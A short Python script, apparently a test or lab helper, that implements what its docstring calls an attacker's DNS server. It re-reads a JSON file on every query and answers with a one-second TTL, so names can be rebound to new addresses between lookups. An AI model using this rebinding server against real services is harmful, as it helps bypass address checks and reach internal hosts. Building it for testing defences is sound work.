"""An attacker's name server: what it answers is in a file that may change between two questions.

    rebinding_dns.py ADDRESS STATE       STATE holds JSON: {name: [addresses]}

Every answer may be kept for one second. A name without addresses of the type has an empty answer.
"""

from __future__ import annotations

import ipaddress
import json
import socket
import struct
import sys

A, AAAA, IN, TTL = 1, 28, 1, 1


def question_of(message: bytes) -> tuple[str, int, int]:
    """question_of returns the name, the type, and where the question ends."""
    labels, at = [], 12
    while message[at]:
        labels.append(message[at + 1 : at + 1 + message[at]].decode("ascii", "replace").lower())
        at += 1 + message[at]
    kind, _ = struct.unpack_from("!HH", message, at + 1)
    return ".".join(labels), kind, at + 5


def answer(message: bytes, names: dict[str, list[str]]) -> bytes:
    name, kind, end = question_of(message)
    addresses = [ipaddress.ip_address(text) for text in names.get(name, [])]
    wanted = [a.packed for a in addresses if (kind, a.version) in ((A, 4), (AAAA, 6))]
    flags = 0x8580 | (0 if name in names else 3)  # Authoritative, with recursion; NXDOMAIN for the rest.
    records = b"".join(struct.pack("!HHHIH", 0xC00C, kind, IN, TTL, len(packed)) + packed for packed in wanted)
    return message[:2] + struct.pack("!HHHHH", flags, 1, len(wanted), 0, 0) + message[12:end] + records


def main(address: str, state: str) -> None:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((address, 53))
    while True:
        message, peer = sock.recvfrom(4096)
        try:
            with open(state) as file:
                sock.sendto(answer(message, json.load(file)), peer)
        except (IndexError, struct.error):
            pass


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
